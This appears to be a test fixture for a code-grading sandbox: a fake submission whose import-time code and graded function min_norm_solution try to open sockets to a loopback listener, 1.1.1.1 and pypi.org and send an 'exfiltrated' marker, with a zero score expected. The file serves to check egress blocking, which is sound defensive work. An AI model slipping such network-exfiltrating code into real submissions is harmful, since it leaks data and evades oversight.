"""Tries to reach the network: a public address and a listener on this machine's loopback.

base: stub
expect: *=zero
"""
import os
import socket

_reached = []
for _address in (("127.0.0.1", int(os.environ.get("HOSTILE_LISTENER_PORT", "47931"))),
                 ("1.1.1.1", 53), ("pypi.org", 443)):
    try:
        with socket.create_connection(_address, timeout=2) as _conn:
            _conn.sendall(b"exfiltrated")
            _reached.append(_address)
    except Exception:
        pass


def min_norm_solution(A, y):
    try:
        with socket.create_connection(("127.0.0.1", 47931), timeout=2) as conn:
            conn.sendall(b"from a graded function")
    except Exception:
        pass
    return None
